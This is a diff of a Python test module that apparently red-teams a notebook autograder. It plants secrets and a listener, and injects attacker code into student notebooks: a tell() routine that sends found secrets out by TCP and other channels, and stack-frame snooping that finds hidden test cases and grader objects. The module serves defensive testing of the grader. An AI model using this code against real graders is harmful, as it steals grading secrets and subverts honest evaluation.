@@ -1,26 +1,18 @@
-"""Attacks as data, and the world that they are let loose on: planted secrets, a listener, places where loot may be
-left.
-
-An attack is a file in attacks/: what it tries, what it `wins`, and the cells that it puts into a notebook (py:percent,
-`# %% name`): `first` and `last` stand around the lesson, the name of an exercise replaces its cell, `notebook` is run
-here with the notebook as `nb` and `folder` with the folder that is handed in.
-`honest <exercise>` is the same answer without the trick, where it is worth something.
-"""
+"""The world that attacks are let loose on: planted secrets, a listener, places where loot may be left."""
 
 from __future__ import annotations
 
 import contextlib
 import ctypes
 import os
-import re
 import secrets
 import shutil
+import socket
 import sqlite3
 import subprocess
 import sysconfig
 import uuid
 import zlib
-from dataclasses import dataclass
 from functools import cached_property
 from pathlib import Path
 from typing import Any
@@ -31,64 +23,39 @@ from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_ce
 
 import attention_lab
 from autograder.lessons.sizes import odd_sides
-from tests.classroom.pupils import (
-    FULL,
-    GRADE_IDS,
-    LESSON,
-    NAMES,
-    NOTHING,
-    PWN,
-    RELEASED,
-    ROOT,
-    SOLVED,
-    Pupil,
-    find,
-    notebook_of,
-)
+from tests.classroom.pupils import FULL, GRADE_IDS, NOTHING, PWN, ROOT, SOLVED, Pupil, find, notebook_of
 
+from .tables import Attack
 from .traces import Listener
 
-ATTACKS = Path(__file__).parent / "attacks"
-WINS = ("points", "secret", "harm", "page")
 ENVIRONMENT = "ADVERSARIAL_SECRET"  # a variable of whoever grades
 GUESSABLE = "attention-2026"  # the seed of the unprotected control: a name and a year
 
 LIBRARIES = ("purelib", "platlib", "stdlib")
 INVALIDATE = (250, 21)  # keyctl on x86_64, and what it is to do
 
-# Right in shape, wrong in every number.
-WRONG = {
-    "squeeze": "def squeeze(x):\n    return x.sum(dim=(2, 3)) + 7\n",
-    "Excitation": """class Excitation(nn.Module):
-    def __init__(self, channels, reduction=16):
-        super().__init__()
-        self.fc1 = nn.Linear(channels, max(1, channels // reduction), bias=False)
-        self.fc2 = nn.Linear(max(1, channels // reduction), channels, bias=False)
-
-    def forward(self, s):
-        return self.fc2(self.fc1(s)) + 7
-""",
-    "SEBlock": """class SEBlock(nn.Module):
-    def __init__(self, channels, reduction=16):
-        super().__init__()
-        self.excitation = Excitation(channels, reduction)
-
-    def forward(self, x):
-        return x + 7
-""",
-    "se_parameter_cost": "def se_parameter_cost(stage_channels, stage_blocks, reduction=16):\n    return -7.0\n",
-}
-# Where the way out for a secret is the message of an error, which stands on the feedback page.
-TELLING = "def squeeze(x):\n    raise RuntimeError(' '.join(FOUND))\n"
-UNWRITTEN = {name: find(RELEASED, grade_id).source for name, grade_id in GRADE_IDS.items()}
-
 # What an attacker would have to find out, and a way to hand on what was found by every door there is.
-HEADER = '''{names}
+HEADER = '''import ctypes
+import gc
+import json
+import os
+import re
+import signal
+import socket
+import struct
+import subprocess
+import sys
+import threading
+import time
+
+import torch
+
+{names}
 FOUND = []
+libc = ctypes.CDLL(None)
 
 
 def tell(*found):
-    import socket
     text = " ".join(map(str, found))
     FOUND.append(text[-300:])
     def by_tcp():
@@ -114,7 +81,6 @@ def attempt(action, *arguments):
 
 def case_nearby():
     """The hidden case that is being asked, if whoever asks can be seen from here."""
-    import sys
     frame = sys._getframe(1)
     while frame:
         for value in list(frame.f_locals.values()):
@@ -122,58 +88,15 @@ def case_nearby():
                 return value
         frame = frame.f_back
     raise LookupError("nobody asks")
+
+
+def observers():
+    """Whatever is observing this exercise, if it can be seen from here."""
+    frame = sys._getframe(1)
+    while frame := frame.f_back:
+        if hasattr(frame.f_locals.get("self"), "header"):
+            yield frame.f_locals["self"]
 '''
-
-
-@dataclass(frozen=True)
-class Attack:
-    name: str
-    what: str
-    wins: str
-    sections: dict[str, str]
-
-    @property
-    def answers(self) -> dict[str, str]:
-        return {name: self.sections.get(name, plain) for name, plain in self._plain().items()}
-
-    @property
-    def honest(self) -> dict[str, str]:
-        """The exercises without the trick."""
-        plain = {name: WRONG[name] if name in self.sections else plain for name, plain in self._plain().items()}
-        return {name: self.sections.get(f"honest {name}", plain[name]) for name in NAMES}
-
-    def _plain(self) -> dict[str, str]:
-        """What stands in the exercises that the attack does not write: wrong answers where all points are to be had by
-        a trick; where it has its own exercise, or no interest in points, the others are left as they are handed out,
-        which takes less time."""
-        own = [name for name in NAMES if name in self.sections]
-        if self.wins == "points" and not own and not self.on_files:
-            return WRONG
-        squeeze = TELLING if self.wins == "secret" else WRONG["squeeze"]
-        return UNWRITTEN if own else {**UNWRITTEN, "squeeze": squeeze}
-
-    @property
-    def on_files(self) -> bool:
-        """Is the trick in the file rather than in code that runs?"""
-        return "notebook" in self.sections or "folder" in self.sections
-
-
-KNOWN = {"first", "last", "notebook", "folder", *NAMES, *(f"honest {name}" for name in NAMES)}
-
-
-def load(path: Path) -> Attack:
-    """One attack. Raises ValueError where its file is not as this module's docstring says."""
-    head, *parts = re.split(r"^# %% (.+)\n", path.read_text(encoding="utf-8"), flags=re.MULTILINE)
-    found = re.fullmatch(r'"""(.+)"""\n# wins: (\w+)\n*', head, re.DOTALL)
-    sections = dict(zip(parts[::2], parts[1::2]))
-    if not found or found[2] not in WINS or not sections or not sections.keys() <= KNOWN:
-        raise ValueError(f"{path.name}: a docstring, `# wins: {' | '.join(WINS)}`, then sections; not {head!r} and "
-                         f"{list(sections)}")
-    return Attack(path.stem, found[1], found[2], sections)
-
-
-def attacks() -> list[Attack]:
-    return [load(path) for path in sorted(ATTACKS.glob("*.py"))]
 
 
 class World:
@@ -254,14 +177,15 @@ class World:
             if "notebook" in attack.sections:
                 tools = {"nb": notebook, "find": find, "new_code_cell": new_code_cell,
                          "new_markdown_cell": new_markdown_cell,
-                         "new_raw_cell": new_raw_cell, "new_output": new_output, "GRADE_IDS": GRADE_IDS, "PWN": PWN}
+                         "new_raw_cell": new_raw_cell, "new_output": new_output, "GRADE_IDS": GRADE_IDS, "PWN": PWN,
+                         "checks": [find(notebook, f"{grade_id}-check") for grade_id in GRADE_IDS.values()]}
                 exec(attack.sections["notebook"], {**tools, **self.constants(attack)})
         return Pupil(attack.name, attack.what, NOTHING, attack.answers, edit)
 
     def furnish(self, attack: Attack, folder: Path) -> None:
         """Do to the folder that is handed in what the attack does to it."""
         if "folder" in attack.sections:
-            exec(attack.sections["folder"], {"folder": folder, **self.constants(attack)})
+            exec(attack.sections["folder"], {"folder": folder, "os": os, "socket": socket, **self.constants(attack)})
 
     def given_away(self, text: str) -> list[str]:
         """The places whose secret stands in `text`."""
@@ -339,6 +263,3 @@ def saved_with_nothing(notebook: NotebookNode) -> None:
     for grade_id in GRADE_IDS.values():
         find(notebook, f"{grade_id}-check").outputs = [new_output("execute_result", {"text/plain": "0.0"},
                                                                   execution_count=1)]
-
-
-__all__ = ["Attack", "World", "attacks", "honest_pupil", "LESSON"]
